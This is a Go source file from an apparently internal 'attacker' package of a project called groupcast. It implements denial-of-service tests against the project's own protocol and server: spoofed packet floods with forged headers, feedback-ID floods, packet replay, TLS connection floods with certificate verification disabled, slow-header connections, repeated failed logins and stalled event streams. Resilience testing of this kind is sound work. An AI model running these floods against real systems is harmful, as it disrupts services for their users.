//go:build linux

package attacker

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/hex"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/groupcast/groupcast"
	"github.com/groupcast/groupcast/internal/apiclient"
	"github.com/groupcast/groupcast/internal/format2"
	"github.com/groupcast/groupcast/internal/pki"
	"github.com/groupcast/groupcast/internal/protocol"
	"github.com/groupcast/groupcast/internal/wire"
)

// packetFlood sends packets of the server's address and port, so many a second: next makes each.
func packetFlood(ctx context.Context, p Plan, r *Report, from, to netip.AddrPort, next func(buf []byte) []byte) error {
	s, err := newSpoofer(from, to)
	if err != nil {
		return err
	}
	defer s.close()
	buf := make([]byte, 2048)
	say("flooding %s as %s", to, from)
	pace(ctx, p.Rate, func(int) {
		r.Sent++
		if s.send(next(buf)) != nil {
			r.Failed++
		}
	})
	return nil
}

// garbage waits for a packet of a session, as anybody on the network can, and floods the group
// with packets of its tag, length and source that no key made.
func garbage(ctx context.Context, p Plan, r *Report) error {
	group, err := netip.ParseAddrPort(p.Group)
	if err != nil {
		return err
	}
	heardOne, stop := context.WithCancel(ctx)
	var from netip.AddrPort
	var like []byte
	_ = hearGroup(heardOne, group, func(at netip.AddrPort, packet []byte) {
		if h, _, err := ParseHeader(packet); err == nil && h.Kind == wire.KindData && like == nil {
			from, like = at, append([]byte(nil), packet...)
			stop()
		}
	})
	stop()
	if like == nil {
		return ctx.Err()
	}
	head, version, err := ParseHeader(like)
	if err != nil {
		return err
	}
	junk := make([]byte, len(like)+4096)
	_, _ = rand.Read(junk)
	var n int
	return packetFlood(ctx, p, r, from, group, func(buf []byte) []byte {
		n++
		head.Number++
		out := appendHeader(buf[:0], head, version)
		return append(out, junk[n%4096:][:len(like)-len(out)]...)
	})
}

// feedbackFlood floods the server with feedback of an ID that was overheard.
func feedbackFlood(ctx context.Context, p Plan, r *Report) error {
	server, err := serverAddr(p)
	if err != nil {
		return err
	}
	id, err := hex.DecodeString(p.File)
	if err != nil || len(id) != len(protocol.FeedbackID{}) {
		return fmt.Errorf("no feedback ID: %q", p.File)
	}
	from, err := netip.ParseAddrPort(p.Source)
	if err != nil {
		return err
	}
	junk := make([]byte, 120)
	var n uint64
	return packetFlood(ctx, p, r, from, netip.AddrPortFrom(server, protocol.ControlPort), func(buf []byte) []byte {
		n++
		_, _ = rand.Read(junk[:8])
		h := wire.FeedbackHeader{ID: protocol.FeedbackID(id), Counter: n}
		if p.Wire == protocol.Version {
			return append(wire.AppendFeedbackHeader(buf[:0], h), junk...)
		}
		out := format2.AppendFeedbackHeader(buf[:0], h)
		return append(out, junk...)
	})
}

// reflect replays a recorded announcement or probe to the group, as from somebody else.
func reflect(ctx context.Context, p Plan, r *Report) error {
	group, err := netip.ParseAddrPort(p.Group)
	if err != nil {
		return err
	}
	from, err := netip.ParseAddrPort(p.Source)
	if err != nil {
		return err
	}
	packets, err := readHex(p.File)
	if err != nil {
		return err
	}
	var n int
	return packetFlood(ctx, p, r, from, group, func([]byte) []byte { n++; return packets[n%len(packets)] })
}

// replay sends recorded packets once more, from the address and port they bore.
func replay(ctx context.Context, p Plan, r *Report) error { return reflect(ctx, p, r) }

// readHex reads packets, one a line.
func readHex(file string) ([][]byte, error) {
	text, err := os.ReadFile(file)
	if err != nil {
		return nil, err
	}
	var out [][]byte
	for line := range strings.Lines(string(text)) {
		b, err := hex.DecodeString(strings.TrimSpace(line))
		if err != nil {
			return nil, err
		}
		out = append(out, b)
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("%s: nothing to replay", file)
	}
	return out, nil
}

// attempts runs tries of which each takes a while, so many a second and at most p.Count at once.
func attempts(ctx context.Context, p Plan, r *Report, try func(context.Context) error) error {
	var mu sync.Mutex
	slots := make(chan struct{}, max(p.Count, 1))
	r.Answers = make(map[string]int)
	say("flooding")
	pace(ctx, p.Rate, func(int) {
		select {
		case slots <- struct{}{}:
		default:
			return
		}
		go func() {
			err := try(ctx)
			mu.Lock()
			defer mu.Unlock()
			r.Sent++
			if err != nil {
				r.Failed++
				r.Answers[word(err)]++
			}
			<-slots
		}()
	})
	mu.Lock()
	defer mu.Unlock()
	answers := r.Answers
	r.Answers = make(map[string]int, len(answers))
	for k, v := range answers {
		r.Answers[k] = v
	}
	return nil
}

// word makes of an error what it is counted under.
func word(err error) string {
	if code := groupcast.ErrorCode(err); code != "" && code != groupcast.EInternal {
		return string(code)
	}
	text := err.Error()
	if i := strings.LastIndex(text, ": "); i >= 0 {
		text = text[i+2:]
	}
	return text
}

// tlsFlood opens TLS connections and drops them.
func tlsFlood(ctx context.Context, p Plan, r *Report) error {
	return attempts(ctx, p, r, func(ctx context.Context) error {
		c, err := dialTLS(ctx, p)
		if err != nil {
			return err
		}
		return c.Close()
	})
}

// dialTLS connects without a look at whom it meets.
func dialTLS(ctx context.Context, p Plan) (net.Conn, error) {
	hostPort, err := apiclient.ParseAddress(p.Server)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	d := tls.Dialer{Config: &tls.Config{
		InsecureSkipVerify: true, ServerName: internalName(p),
		NextProtos: []string{"http/1.1"},
	}}
	return d.DialContext(ctx, "tcp", hostPort)
}

func internalName(p Plan) string {
	id, err := pki.ParseFingerprint(p.Fingerprint)
	if err != nil {
		return ""
	}
	return pki.InternalName(id)
}

// slowHeaders holds p.Count connections open that send a byte of a header now and then.
func slowHeaders(ctx context.Context, p Plan, r *Report) error {
	return attempts(ctx, p, r, func(ctx context.Context) error {
		c, err := dialTLS(ctx, p)
		if err != nil {
			return err
		}
		defer c.Close()
		if _, err := fmt.Fprintf(c, "GET /api/v1/me HTTP/1.1\r\nHost: %s\r\nX-", internalName(p)); err != nil {
			return err
		}
		for ctx.Err() == nil {
			time.Sleep(500 * time.Millisecond)
			if _, err := c.Write([]byte("a")); err != nil {
				return err
			}
		}
		return nil
	})
}

// loginFlood tries passwords.
func loginFlood(ctx context.Context, p Plan, r *Report) error {
	id, err := pki.ParseFingerprint(p.Fingerprint)
	if err != nil {
		return err
	}
	return attempts(ctx, p, r, func(ctx context.Context) error {
		c, err := apiclient.New(apiclient.Config{Address: p.Server, Pin: pki.Pin{ID: id}})
		if err != nil {
			return err
		}
		defer c.Close()
		ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
		defer cancel()
		_, err = c.Login(ctx, groupcast.Login{
			User: p.User, Password: "wrong", Device: "x", PublicKey: make([]byte, 32),
			OS: "x", Version: "1", ControlVersion: groupcast.ControlVersion, WireVersion: protocol.Version,
		})
		return err
	})
}

// stuckStreams opens event streams as a member and never reads them.
func stuckStreams(ctx context.Context, p Plan, r *Report) error {
	m, err := Login(ctx, p)
	if err != nil {
		return err
	}
	return attempts(ctx, p, r, func(ctx context.Context) error {
		c, err := dialTLS(ctx, p)
		if err != nil {
			return err
		}
		defer c.Close()
		path, token := "/api/v1/events", m.In.CLIToken
		if time.Now().UnixNano()%2 == 0 {
			path, token = "/api/v1/agent/events", m.In.AgentToken
		}
		_, err = fmt.Fprintf(c,
			"GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nAccept: text/event-stream\r\n\r\n",
			path, internalName(p), token)
		if err != nil {
			return err
		}
		<-ctx.Done()
		return nil
	})
}
